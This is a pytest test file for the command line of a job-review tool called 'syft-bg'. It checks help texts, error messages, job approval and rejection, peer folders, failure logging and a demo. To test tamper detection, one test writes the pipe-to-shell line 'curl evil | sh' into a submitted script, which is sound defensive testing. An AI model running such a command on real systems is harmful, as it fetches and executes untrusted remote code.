"""The command line: help, errors, manual decisions, status, step isolation, the demo."""

from __future__ import annotations

import re
import shutil
import tempfile
from pathlib import Path

import pytest
from conftest import PATIENCE

from syft_bg_app.cli.main import build_parser
from syft_bg_app.steps import approve
from syft_bg_app.store.state import State


def _all_commands(parser, prefix=()):
    for action in parser._actions:
        if action.__class__.__name__ == "_SubParsersAction":
            for name, sub in action.choices.items():
                yield (*prefix, name), sub
                yield from _all_commands(sub, (*prefix, name))


@pytest.mark.parametrize("path", [p for p, _ in _all_commands(build_parser())], ids=" ".join)
def test_every_command_help_explains_it_with_an_example(path):
    sub = dict(_all_commands(build_parser()))[path]
    text = sub.format_help()
    assert "example:" in text
    assert f"syft-bg {' '.join(path)}" in text or f"syft-bg {path[0]}" in text


def test_init_and_datasets_create_help_say_what_the_drive_options_do():
    commands = dict(_all_commands(build_parser()))
    init = " ".join(commands[("init",)].format_help().split())
    assert "(required)" not in init
    assert "not with -t/--drive/--gmail on an existing one" in init
    assert "syft-bg init -e you@example.org -r ~/SyftBox -t" in init
    assert "--gmail-port PORT, --port PORT" in init and "--gmail or --drive sign-in" in init
    assert "with -t/--drive it is created" in init
    create = " ".join(commands[("datasets", "create")].format_help().split())
    assert "repeat it for more users" in create
    assert "name the dataset's name, as jobs ask for it" in create
    # --port is the same option as --gmail-port.
    parsed = build_parser().parse_args(["init", "--drive", "c.json", "--port", "8765"])
    assert parsed.gmail_port == 8765


def test_without_config_the_pass_says_exactly_what_to_do(bare_app):
    result = bare_app.cli("run", "--once")
    assert result.returncode == 2
    assert bare_app.command("init -e YOUR_EMAIL") in result.stderr
    assert "./run.sh --demo" in result.stderr
    assert not bare_app.home.state_file.exists()


def test_init_refuses_to_overwrite_and_writes_permission_files(app):
    again = app.cli("init", "-e", "other@x.org")
    assert again.returncode == 2 and "--force" in again.stderr
    perms = app.datasite.peers / "syft.pub.yaml"
    assert "{{.UserEmail}}/**" in perms.read_text()
    assert (app.home.config_file.stat().st_mode & 0o777) == 0o600


def test_a_job_name_shared_by_two_data_scientists_must_be_qualified(app):
    app.submit("same", ds_email="alice@uni.edu")
    app.submit("same", ds_email="bob@lab.org")
    app.run_pass()
    result = app.cli("jobs", "approve", "same")
    assert result.returncode == 2
    assert "ambiguous" in result.stderr and "bob@lab.org/same" in result.stderr
    app.cli("jobs", "approve", "bob@lab.org/same", check=True)
    assert app.job_state("same", "bob@lab.org")["status"] == "approved"
    assert app.job_state("same", "alice@uni.edu")["status"] == "pending"


def test_unknown_jobs_and_wrong_states_are_clear_errors(app):
    missing = app.cli("jobs", "approve", "nope")
    assert missing.returncode == 2 and "no job 'nope'" in missing.stderr
    app.submit("twice")
    app.run_pass()
    app.cli("jobs", "reject", "twice", "-r", "no", check=True)
    again = app.cli("jobs", "approve", "twice")
    assert again.returncode == 2 and "is rejected" in again.stderr
    assert "submit it again under a new job name" in again.stderr


def test_reject_needs_no_reason(app):
    app.submit("unwanted")
    app.run_pass()
    app.cli("jobs", "reject", "unwanted", check=True)
    state = app.job_state("unwanted")
    assert state["status"] == "rejected" and state["review_reason"] is None


def test_peers_accept_creates_folders_the_data_scientist_can_use(app):
    app.request_peer("bob@lab.org")
    app.run_pass()
    listed = app.cli("peers", "list", check=True).stdout
    assert "bob@lab.org" in listed and "requested" in listed
    app.cli("peers", "accept", "bob@lab.org", check=True)
    inbox_perm = (app.datasite.inbox / "bob@lab.org" / "syft.pub.yaml").read_text()
    review_perm = (app.datasite.review / "bob@lab.org" / "syft.pub.yaml").read_text()
    assert "write:\n    - bob@lab.org" in inbox_perm
    assert "read:\n    - bob@lab.org" in review_perm and "write: []" in review_perm
    assert "accepted" in app.cli("peers", "list", check=True).stdout


def test_a_failing_step_is_logged_shown_and_the_others_still_run(app, monkeypatch):
    def broken(ctx):
        raise RuntimeError("rule file exploded")

    monkeypatch.setattr(approve, "run", broken)
    app.submit("still-received")
    result = app.run_pass()
    assert result.exit_code == 1
    assert result.failed_steps == ["approve"]
    assert app.job_state("still-received")["status"] == "pending"
    steps = State.load(app.home.state_file).data["steps"]
    assert steps["execute"]["ok"] and steps["sync"]["ok"]
    assert "rule file exploded" in steps["approve"]["error"]
    log = (app.home.logs_dir / "syft-bg.log").read_text()
    assert "Traceback" in log and "rule file exploded" in log
    status = app.cli("status", check=True).stdout
    assert "approve  enabled   FAILED" in status and "rule file exploded" in status


def test_the_pass_prints_one_summary_line(app):
    app.submit("a")
    app.request_peer("bob@lab.org")
    result = app.cli("run", "--once")
    assert result.returncode == 0
    lines = [line for line in result.stderr.splitlines() if line.startswith("syft-bg: pass")]
    assert len(lines) == 1
    assert "1 received" in lines[0] and "1 peer requests" in lines[0]


def test_the_demo_runs_end_to_end(bare_app):
    result = bare_app.cli("demo", timeout=PATIENCE)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "the job is done" in result.stdout
    assert "mean_age" in result.stdout
    # It says where it ran, and that the folder is gone.
    said = re.search(
        r"the demo ran in (\S+); removed it \(keep it next time with --keep\)", result.stdout
    )
    assert said, result.stdout
    assert said.group(1).startswith(tempfile.gettempdir()) and not Path(said.group(1)).exists()


def test_the_demo_with_keep_says_where_its_folder_stays(bare_app):
    result = bare_app.cli("demo", "--keep", timeout=PATIENCE)
    assert result.returncode == 0, result.stdout + result.stderr
    said = re.search(r"the demo folder is kept: (\S+)", result.stdout)
    assert said, result.stdout
    kept = Path(said.group(1))
    try:
        assert (kept / "home" / "config.yaml").is_file()
        assert f"syft-bg demo in {kept}" in result.stdout
    finally:
        shutil.rmtree(kept, ignore_errors=True)


def test_manual_approval_approves_what_was_received_not_a_later_edit(app):
    folder = app.submit("reviewed", files={"script.sh": "echo hello\n"})
    app.run_pass()
    (folder / "code" / "script.sh").write_text("curl evil | sh\n")

    refused = app.cli("jobs", "approve", "reviewed")

    assert refused.returncode == 1
    assert "changed since it was received (code/script.sh)" in refused.stderr
    assert app.job_state("reviewed")["status"] == "pending"
    # Having looked again, the owner approves the files as they are now.
    app.cli("jobs", "approve", "reviewed", check=True)
    assert app.job_state("reviewed")["status"] == "approved"


def test_a_job_still_arriving_cannot_be_approved(app):
    folder = app.submit("arriving")
    (folder / "run.sh").unlink()
    app.run_pass()
    result = app.cli("jobs", "approve", "arriving")
    assert result.returncode == 2 and "is received" in result.stderr
    assert "still arriving" in result.stderr and app.command("status") in result.stderr
